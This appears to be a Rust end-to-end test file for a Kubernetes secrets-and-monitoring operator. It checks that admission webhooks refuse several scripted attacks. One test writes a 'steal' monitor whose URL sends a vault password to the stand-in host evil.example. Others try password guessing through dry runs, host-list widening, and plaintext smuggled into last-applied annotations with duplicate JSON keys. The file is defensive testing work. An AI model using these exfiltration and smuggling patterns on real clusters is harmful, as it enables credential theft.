    let (code, message) = refused(bob_items.delete("db", &DeleteParams::default()).await);
    assert_eq!(code, 403, "{message}");
    assert!(message.contains("holds a secret"), "{message}");
    assert!(message.contains("vaultsections/payments"), "{message}");

    // 3. Someone allowed deletes db; bob recreates it in checkout with the copied value.
    let items: Api<VaultItem> = w.api();
    items
        .delete("db", &DeleteParams::default())
        .await
        .expect("the admin deletes db");
    eventually("db to be gone", || {
        let items = items.clone();
        async move { items.get_opt("db").await.ok()?.is_none().then_some(()) }
    })
    .await;
    let recreated: VaultItem = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
        "metadata": {"name": "db"},
        "spec": {"type": "CredentialSet", "section": "checkout",
                 "credentialSet": {"username": "payments-bot", "password": "*****"},
                 "sealed": {"password": copied}},
    }))
    .expect("recreated db");
    let (code, message) = refused(bob_items.create(&PostParams::default(), &recreated).await);
    assert_eq!(code, 422, "{message}");
    assert!(message.contains("does not open"), "{message}");
    assert!(message.contains("--section checkout"), "{message}");

    // 4. So his monitor to his own host, naming db, has nothing to pass its check through.
    let steal: Monitor = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
        "metadata": {"name": "steal"},
        "spec": {"url": "https://evil.example/?p={{@VaultItem.db.Password}}"},
    }))
    .expect("monitor");
    let (code, message) = refused(bob_monitors.create(&PostParams::default(), &steal).await);
    assert_eq!(code, 403, "{message}");
    assert!(message.contains("vault item(s) db"), "{message}");

    // The stamp binds each item's uid: an item replaced under the same name after admission
    // is not the item that was authorized.
    let shop = w.monitors().get("shop").await.expect("shop");
    let refs = stamp::verify(&w.keys().await, &shop)
        .await
        .expect("the shop stamp verifies");
    let login = items.get("shop-login").await.expect("shop-login");
    assert_eq!(refs.items.get("shop-login"), login.metadata.uid.as_ref());
    assert_ne!(refs.items.get("shop-login"), db.metadata.uid.as_ref());
    w.c.assert_not_in_etcd(&[password.as_str()]);
}

/// A server-side dry run of `guess` over shop-login's password, as `client`: the sealed
/// value that comes back, or the refusal's code and message.
async fn dry_run_guess(w: &World, client: Client, guess: &str) -> Result<String, (u16, String)> {
    let items: Api<VaultItem> = Api::namespaced(client, &w.ns);
    let patch = Patch::Merge(json!({"spec": {"credentialSet": {"password": guess}}}));
    match items
        .patch("shop-login", &PatchParams::default().dry_run(), &patch)
        .await
    {
        Ok(answer) => Ok(answer
            .spec
            .sealed_value(monivault::api::SecretField::Password)
            .expect("sealed")
            .to_owned()),
        Err(kube::Error::Api(status)) => Err((status.code, status.message)),
        Err(other) => panic!("unexpected error {other:?}"),
    }
}

#[tokio::test]
async fn attack_a2_mallory_cannot_test_guesses_of_a_password_with_dry_runs() {
    let w = World::new("wh-a2").await;
    let items: Api<VaultItem> = w.api();
    let stored = items
        .get("shop-login")
        .await
        .expect("item")
        .spec
        .sealed_value(monivault::api::SecretField::Password)
        .expect("sealed")
        .to_owned();
    let mallory = w.as_user("mallory", &["dev"]).await;
    let right = dry_run_guess(&w, mallory.clone(), &w.login_password).await;
    let (wrong_guess, new_password) = (
        support::secret("wrong-guess-a2"),
        support::secret("a-new-password-a2"),
    );
    let wrong = dry_run_guess(&w, mallory, &wrong_guess).await;
    // The right guess and a wrong one answer alike: she may not replace the secret at all
    // (it needs `use`), and the refusal is the same word for word.
    let (code, message) = right.clone().expect_err("refused");
    assert_eq!(code, 403, "{message}");
    assert!(message.contains("replace the secret"), "{message}");
    assert_eq!(right, wrong);
    // alice may use the item: her repeated apply keeps the stored value (no drift).
    let alice = w.as_user("alice", &[]).await;
    assert_eq!(
        dry_run_guess(&w, alice.clone(), &w.login_password).await,
        Ok(stored.clone())
    );
    // ... and a new password of hers is sealed afresh.
    let fresh_seal = dry_run_guess(&w, alice, &new_password)
        .await
        .expect("allowed");
    assert_ne!(fresh_seal, stored);
    // Nothing was written.
    let after = items.get("shop-login").await.expect("item");
    assert_eq!(
        after
            .spec
            .sealed_value(monivault::api::SecretField::Password),
        Some(stored.as_str())
    );
    w.c.assert_not_in_etcd(&[
        w.login_password.as_str(),
        wrong_guess.as_str(),
        new_password.as_str(),
    ]);
}

#[tokio::test]
async fn attack_a3_a_user_of_an_item_cannot_widen_its_allowed_hosts() {
    let w = World::new("wh-a3").await;
    let pp = PatchParams::default();
    let bob: Api<VaultItem> = Api::namespaced(w.as_user("bob", &["checkout-team"]).await, &w.ns);
    let widen =
        Patch::Merge(json!({"spec": {"allowedHosts": ["shop.example.com", "evil.example"]}}));
    let (code, message) = refused(bob.patch("shop-login", &pp, &widen).await);
    assert_eq!(code, 403, "{message}");
    assert!(message.contains("evil.example"), "{message}");
    assert!(message.contains("\"allowhosts\""), "{message}");
    // An item of his own with hosts is widening from nothing.
    let own: VaultItem = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
        "metadata": {"name": "bobs-token"},
        "spec": {"type": "Secret", "section": "checkout", "allowedHosts": ["evil.example"],
                 "secret": {"value": support::secret("e2e-a3-token")}},
    }))
    .expect("item");
    let (code, message) = refused(bob.create(&PostParams::default(), &own).await);
    assert_eq!(code, 403, "{message}");
    // Narrowing needs nothing extra.
    let narrow = Patch::Merge(json!({"spec": {"allowedHosts": []}}));
    bob.patch("shop-api-token", &pp, &narrow)
        .await
        .expect("bob may narrow");
    // The deploy pipeline holds allowhosts on the section.
    let deployer: Api<VaultItem> = Api::namespaced(w.as_service_account("deployer").await, &w.ns);
    let widen =
        Patch::Merge(json!({"spec": {"allowedHosts": ["shop.example.com", "api.example.com"]}}));
    deployer
        .patch("shop-api-token", &pp, &widen)
        .await
        .expect("the deployer may widen");
    let login = w.api::<VaultItem>().get("shop-login").await.expect("item");
    assert_eq!(login.spec.allowed_hosts, ["shop.example.com"]);
}

#[tokio::test]
async fn attack_a4_a_monitor_being_deleted_and_an_unfinished_run_keep_their_item() {
    let w = World::new("wh-a4").await;
    let items: Api<VaultItem> = w.api();
    let spare: VaultItem = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
        "metadata": {"name": "spare"},
        "spec": {"type": "Secret", "section": "checkout",
                 "allowedHosts": ["shop.example.com", "api.test"],
                 "secret": {"value": support::secret("e2e-a4-spare")}},
    }))
    .expect("item");
    items
        .create(&PostParams::default(), &spare)
        .await
        .expect("create spare");
    let held: Monitor = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
        "metadata": {"name": "held", "finalizers": ["e2e.monivault.io/hold"]},
        "spec": {"url": "https://shop.example.com/", "auth": {"bearer": {"secret": "spare"}}},
    }))
    .expect("monitor");
    let monitors = w.monitors();
    monitors
        .create(&PostParams::default(), &held)
        .await
        .expect("create held");
    monitors
        .delete("held", &DeleteParams::default())
        .await
        .expect("delete held");
    assert!(monitors.get("held").await.is_ok(), "a finalizer holds it");
    let (code, message) = refused(items.delete("spare", &DeleteParams::default()).await);
    assert_eq!(code, 409, "{message}");
    assert!(message.contains("Monitor(s) held"), "{message}");
    monitors
        .patch(
            "held",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"finalizers": null}})),
        )
        .await
        .expect("release held");

    // A Test Now of an inline spec that has not finished: its host accepts connections and
    // never answers, so the run stays Running for its whole timeout.
    let (port, _tarpit) = tarpit().await;
    let runs: Api<MonitorRun> = w.api();
    let run: MonitorRun = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "MonitorRun",
        "metadata": {"name": "try-spare"},
        "spec": {"monitor": {"url": format!("https://api.test:{port}/"), "timeout": "120s",
                             "auth": {"bearer": {"secret": "spare"}}}},
    }))
    .expect("run");
    runs.create(&PostParams::default(), &run)
        .await
        .expect("create the run");
    let (code, message) = refused(items.delete("spare", &DeleteParams::default()).await);
    assert_eq!(code, 409, "{message}");
    assert!(message.contains("MonitorRun(s) try-spare"), "{message}");
}

#[tokio::test]
async fn attack_a5_a_plaintext_hidden_in_last_applied_never_reaches_etcd() {
    let w = World::new("wh-a5").await;
    let started = std::time::SystemTime::now();
    // Raw JSON and YAML below: letters and digits only.
    let hidden = support::token("e2e-a5-duplicate");
    let sealed_one = support::token("e2e-a5-spec");
    let second = support::token("e2e-a5-second");
    // A client that writes the annotation with a duplicate key: the parsed value looks
    // masked, the raw text keeps the plaintext. `kubectl create --raw` sends bytes as they are.
    let annotation = format!(
        r#"{{"apiVersion":"monivault.io/v1alpha1","kind":"VaultItem","metadata":{{"name":"dup","namespace":"{ns}"}},"spec":{{"type":"Secret","section":"checkout","secret":{{"value":"{hidden}","value":"*****"}}}}}}"#,
        ns = w.ns
    );
    let body = json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
        "metadata": {"name": "dup", "annotations": {
            "kubectl.kubernetes.io/last-applied-configuration": annotation}},
        "spec": {"type": "Secret", "section": "checkout", "secret": {"value": sealed_one}},
    });
    let out = w.c.kubectl_stdin(
        &[
            "create",
            "--raw",
            &format!("/apis/monivault.io/v1alpha1/namespaces/{}/vaultitems", w.ns),
            "-f",
            "-",
        ],
        &body.to_string(),
    );
    assert!(out.status.success(), "{}", stderr(&out));

    // A mistyped field, applied with field validation off: pruned from spec, kept in the
    // annotation by a client-side apply.
    let mistyped = support::token("e2e-a5-mistyped");
    let manifest = format!(
        "apiVersion: monivault.io/v1alpha1\nkind: VaultItem\nmetadata:\n  name: typo\nspec:\n  type: CredentialSet\n  section: checkout\n  credentialSet:\n    username: bot\n    password: {second}\n    Password: {mistyped}\n"
    );
    let out = w.c.kubectl_stdin(
        &["apply", "-n", &w.ns, "--validate=false", "-f", "-"],
        &manifest,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("replaced") || stdout(&out).contains("created"),
        "{}",
        stderr(&out)
    );

    let items: Api<VaultItem> = w.api();
    for name in ["dup", "typo"] {
        let item = items.get(name).await.expect("stored");
        let text = serde_json::to_string(&item).expect("json");
        assert!(
            !text.contains(&hidden) && !text.contains(&mistyped),
            "{text}"
        );
    }
    let plaintexts = [hidden.as_str(), mistyped.as_str(), sealed_one.as_str()];
    w.c.assert_not_in_etcd(&plaintexts);
    let audit = w.c.audit_log_since(started);
    for plaintext in plaintexts {
        assert!(
            !audit.contains(plaintext),
            "a plaintext is in the audit log"
        );
    }
}

#[tokio::test]
async fn a_monitor_with_ten_unfinished_runs_gets_no_eleventh() {
    use monivault::api::monitor_run::MAX_UNFINISHED_RUNS_PER_MONITOR as MAX;
    let w = World::new("wh-runs").await;
    // A host that accepts connections and never answers: every run stays Running for its
    // whole timeout, so none finishes while the test counts.
    let (port, _tarpit) = tarpit().await;
    let slow = json!({"url": format!("https://api.test:{port}/"), "timeout": "120s",
                      "interval": "24h"});
    let monitors: Api<Monitor> = w.api();
    let monitor: Monitor = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
        "metadata": {"name": "slow"}, "spec": slow,
    }))
    .expect("monitor");
    monitors
        .create(&PostParams::default(), &monitor)
        .await
        .expect("create the slow monitor");

    let runs: Api<MonitorRun> = w.api();
    let run = |spec: Value| -> MonitorRun {
        serde_json::from_value(json!({
            "apiVersion": "monivault.io/v1alpha1", "kind": "MonitorRun",
            "metadata": {"generateName": "slow-now-"}, "spec": spec,
        }))
        .expect("run")
    };
    let by_ref = run(json!({"monitorRef": {"name": "slow"}}));
    let inline = run(json!({"monitor": slow}));
    for spec in [&by_ref, &inline] {
        for i in 0..MAX {
            runs.create(&PostParams::default(), spec)
                .await
                .unwrap_or_else(|e| panic!("run {i} is within the limit: {e}"));
        }
        let phases: Vec<String> = runs
            .list(&Default::default())
            .await
            .expect("list runs")
            .items
            .iter()
            .map(|r| {
                let status = r.status.as_ref();
                format!(
                    "{}: {:?} {:?}",
                    r.name_any(),
                    status.and_then(|s| s.phase),
                    status.and_then(|s| s.result.as_ref()).map(|x| &x.message)
                )
            })
            .collect();
        let outcome = runs.create(&PostParams::default(), spec).await;
        assert!(outcome.is_err(), "runs so far: {phases:#?}");
        let (code, message) = refused(outcome);
        assert_eq!(code, 403, "{message}");
        assert!(
            message.contains(&format!("has {MAX} runs that have not finished")),
            "{message}"
        );
    }
    // The runs of one monitor are counted by the API server's field selector: another
    // monitor's run is still admitted.
    let shop = run(json!({"monitorRef": {"name": "shop"}}));
    runs.create(&PostParams::default(), &shop)
        .await
        .expect("the shop monitor has runs to spare");
}
